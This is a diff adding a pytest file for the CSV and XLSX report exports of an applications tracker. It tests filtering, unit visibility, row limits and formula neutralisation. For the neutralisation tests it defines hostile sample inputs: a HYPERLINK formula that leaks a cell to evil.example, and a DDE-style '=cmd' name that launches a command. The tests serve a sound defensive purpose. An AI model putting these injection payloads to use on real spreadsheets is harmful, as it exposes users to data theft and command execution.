@@ -1,0 +1,98 @@
+"""Exports parse back, follow the filters and visibility, and carry no formulas."""
+
+import csv
+import io
+
+import openpyxl
+
+from tracker.reports.exports import neutralise
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+def csv_rows(response):
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    assert "attachment" in response.headers["Content-Disposition"]
+    text = response.get_data(as_text=True).lstrip("\ufeff")
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_csv_parses_back_with_the_filtered_rows(client, login, org, apps):
+    login(org["admin"])
+    rows = csv_rows(client.get("/reports/applications.csv?status=approved&sort=reference"))
+    header, body = rows[0], rows[1:]
+    assert header[:3] == ["reference", "title", "status"]
+    assert sorted(row[0] for row in body) == sorted(
+        [apps["ada_de"].reference, apps["bob_us"].reference])
+    record = dict(zip(header, next(row for row in body if row[0] == apps["bob_us"].reference)))
+    assert record["applicant"] == "Bob Builder"
+    assert record["host_country"] == "US"
+    assert record["duration_days"] == "11"
+    assert record["requested_amount"] == "1500.00"
+    assert record["awarded_amount"] == ""
+    assert record["start_date"] == apps["bob_us"].start_date.isoformat()
+    assert record["created_at"].endswith("Z")
+
+
+def test_csv_of_a_director_holds_only_their_unit(client, login, org, apps):
+    login(org["director_b"])
+    body = csv_rows(client.get("/reports/applications.csv"))[1:]
+    assert [row[0] for row in body] == [apps["bob_us"].reference]
+
+
+def test_csv_neutralises_formulas_from_user_text(client, login, make, org):
+    for title in (FORMULA, "+1+1", "-2", "@SUM(A1)", "\tTabbed", "\rReturn"):
+        make.application(applicant=org["ada"], host=org["partner_us"], title=title,
+                         programme=org["outgoing"])
+    evil_name = make.user(lab=org["unit_a"], full_name="=cmd|' /C calc'!A0")
+    make.application(applicant=evil_name, host=org["partner_us"], programme=org["outgoing"])
+    login(org["admin"])
+    rows = csv_rows(client.get("/reports/applications.csv"))
+    header = rows[0]
+    for row in rows[1:]:
+        for name, cell in zip(header, row):
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
+            if name in ("title", "applicant"):
+                assert not cell.startswith("-")
+    titles = {row[1] for row in rows[1:]}
+    assert "'" + FORMULA in titles and "'-2" in titles
+
+
+def test_xlsx_parses_back_without_formula_cells(client, login, make, org, apps):
+    make.application(applicant=org["ada"], host=org["partner_us"], title=FORMULA,
+                     programme=org["outgoing"])
+    login(org["director_a"])
+    response = client.get("/reports/applications.xlsx")
+    assert response.status_code == 200
+    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
+    sheet = workbook.active
+    rows = list(sheet.iter_rows())
+    header = [cell.value for cell in rows[0]]
+    assert header[0] == "reference"
+    references = {row[0].value for row in rows[1:]}
+    assert apps["bob_us"].reference not in references
+    assert apps["visit_a"].reference in references and len(references) == 5
+    for row in rows:
+        for cell in row:
+            assert cell.data_type != "f", cell.value
+    assert "'" + FORMULA in {row[1].value for row in rows[1:]}
+
+
+def test_neutralise_leaves_numbers_and_plain_text():
+    assert neutralise("=1") == "'=1"
+    assert neutralise("Plain") == "Plain"
+    assert neutralise(3) == 3
+
+
+def test_xlsx_beyond_its_limit_is_refused_with_a_message(client, login, org, apps, monkeypatch):
+    from tracker.reports import exports
+
+    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 2)
+    login(org["admin"])
+    response = client.get("/reports/applications.xlsx?status=approved&sort=reference")
+    assert response.status_code == 200  # two rows: within the limit
+    refused = client.get("/reports/applications.xlsx?direction=outgoing")
+    assert refused.status_code == 302
+    assert refused.headers["Location"].endswith("/reports/applications?direction=outgoing")
+    assert "at most 2 rows" in client.get(refused.headers["Location"]).get_data(as_text=True)
